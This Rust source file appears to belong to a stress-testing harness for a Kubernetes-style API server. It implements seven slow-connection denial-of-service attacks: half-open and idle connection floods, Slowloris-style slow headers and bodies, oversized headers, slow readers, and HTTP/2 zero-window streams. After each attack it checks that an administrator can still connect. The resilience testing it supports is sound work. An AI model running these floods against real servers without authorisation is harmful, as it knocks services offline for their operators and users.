//! Connections that send slowly, read slowly, or do nothing.

use super::{Entry, Outcome};
use crate::client::{Connection, connect_tcp, connect_tls};
use crate::frames::{self, END_HEADERS, END_STREAM, GET, HEADERS, frame, header_block};
use crate::target::{ADMIN_TOKEN, Target};
use anyhow::{Result, ensure};
use serde_json::json;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

/// Connections of the attacks `half-open` and `idle`.
const CONNECTIONS: usize = 1_000;
/// Streams of one connection.
const STREAMS: u32 = 100;
/// The interval between two writes of a slow connection.
const WRITE_INTERVAL: Duration = Duration::from_millis(100);

pub const ATTACKS: [Entry; 7] = [
    ("half-open", "1,000 connections without a handshake", None, half_open),
    ("idle", "1,000 connections with a handshake and no request", None, idle),
    ("slow-headers", "200 requests whose headers are sent byte by byte", None, slow_headers),
    ("long-headers", "200 requests with up to a MiB of headers and no end", None, long_headers),
    ("slow-bodies", "200 requests whose bodies are sent byte by byte", None, slow_bodies),
    ("slow-readers", "200 lists that the client does not read", None, slow_readers),
    ("window-zero", "1,500 HTTP/2 streams of /openapi/v2 with window 0", None, window_zero),
];

fn half_open(target: &Target, end: Instant) -> Result<Outcome> {
    let streams: Vec<TcpStream> =
        (0..CONNECTIONS).filter_map(|_| connect_tcp(target.address).ok()).collect();
    check_new_connection(target)?;
    wait_until(end);
    Ok(Outcome::sent(streams.len()))
}

fn idle(target: &Target, end: Instant) -> Result<Outcome> {
    let mut streams = vec![];
    while streams.len() < CONNECTIONS && Instant::now() < end {
        let mut stream = connect_tls(target.address, target.http2_config())?;
        // The handshake may fail: the server may close some of the connections.
        let _ = stream.conn.complete_io(&mut stream.sock);
        streams.push(stream);
    }
    check_new_connection(target)?;
    wait_until(end);
    Ok(Outcome::sent(streams.len()))
}

fn slow_headers(target: &Target, end: Instant) -> Result<Outcome> {
    let start = b"GET /version HTTP/1.1\r\nHost: a\r\nA: ";
    write_slowly(target, end, start, b"a", 200)
}

fn long_headers(target: &Target, end: Instant) -> Result<Outcome> {
    let start = [b"GET /version HTTP/1.1\r\nHost: a\r\nA: ".as_slice(), &[b'a'; 300_000]].concat();
    write_slowly(target, end, &start, &[b'a'; 60_000], 200)
}

fn slow_bodies(target: &Target, end: Instant) -> Result<Outcome> {
    let start = format!(
        "POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: a\r\n\
         Authorization: Bearer {ADMIN_TOKEN}\r\nContent-Type: application/json\r\n\
         Content-Length: 3000000\r\n\r\n{}",
        " ".repeat(100_000)
    );
    write_slowly(target, end, start.as_bytes(), b" ", 200)
}

/// Sends `start` over many connections, and then `part` over each of them at an interval.
fn write_slowly(
    target: &Target,
    end: Instant,
    start: &[u8],
    part: &[u8],
    connections: usize,
) -> Result<Outcome> {
    let config = target.http2_config();
    let mut config = (*config).clone();
    config.alpn_protocols = vec![b"http/1.1".to_vec()];
    let config = std::sync::Arc::new(config);
    let mut streams = vec![];
    while streams.len() < connections && Instant::now() < end {
        let mut stream = connect_tls(target.address, config.clone())?;
        // The write may fail: the server may close the connection.
        let _ = stream.write_all(start);
        streams.push(stream);
    }
    while Instant::now() < end {
        for stream in &mut streams {
            let _ = stream.write_all(part);
        }
        crate::pause(WRITE_INTERVAL);
    }
    check_new_connection(target)?;
    Ok(Outcome::sent(streams.len()))
}

fn slow_readers(target: &Target, end: Instant) -> Result<Outcome> {
    let config_maps = "/api/v1/namespaces/default/configmaps";
    let time = end.saturating_duration_since(Instant::now());
    let mut admin = target.admin()?;
    for number in 0..100 {
        let body = json!({
            "metadata": {"name": format!("wide-{number}")}, "data": {"a": "x".repeat(100_000)}
        });
        admin.send_json("POST", config_maps, &body)?;
    }
    let end = Instant::now() + time;
    let request = format!(
        "GET {config_maps} HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\n\
         Authorization: Bearer {ADMIN_TOKEN}\r\n\r\n"
    );
    let config =
        std::sync::Arc::new(crate::client::tls_config(&target.roots).with_no_client_auth());
    let mut streams = vec![];
    while streams.len() < 200 && Instant::now() < end {
        let mut stream = connect_tls(target.address, config.clone())?;
        stream.write_all(request.as_bytes())?;
        streams.push(stream);
    }
    wait_until(end);
    let sent = streams.len();
    drop(streams);
    for number in 0..100 {
        admin.send("DELETE", &format!("{config_maps}/wide-{number}"), &[], b"")?;
    }
    Ok(Outcome::sent(sent))
}

fn window_zero(target: &Target, end: Instant) -> Result<Outcome> {
    let mut streams = vec![];
    let request = header_block(GET, "/openapi/v2", ADMIN_TOKEN);
    for _ in 0..15 {
        let mut stream = frames::connect(target, 0)?;
        for number in 0..STREAMS {
            stream.write_all(&frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                2 * number + 1,
                &request,
            ))?;
        }
        stream.flush()?;
        streams.push(stream);
    }
    wait_until(end);
    for stream in &mut streams {
        stream.sock.set_read_timeout(Some(Duration::from_millis(10)))?;
        let _ = stream.read(&mut [0; 16_384]);
    }
    Ok(Outcome::sent(streams.len() * STREAMS as usize))
}

/// Checks that a new connection of the administrator gets a response within a second.
fn check_new_connection(target: &Target) -> Result<()> {
    let start = Instant::now();
    let mut admin: Connection = target.admin()?;
    let response = admin.get("/api/v1/namespaces")?;
    let duration = start.elapsed();
    ensure!(response.status == 200, "a new connection gets {}", response.status);
    ensure!(duration < Duration::from_secs(1), "a new connection waits {duration:?}");
    Ok(())
}

fn wait_until(end: Instant) {
    crate::pause(end.saturating_duration_since(Instant::now()));
}
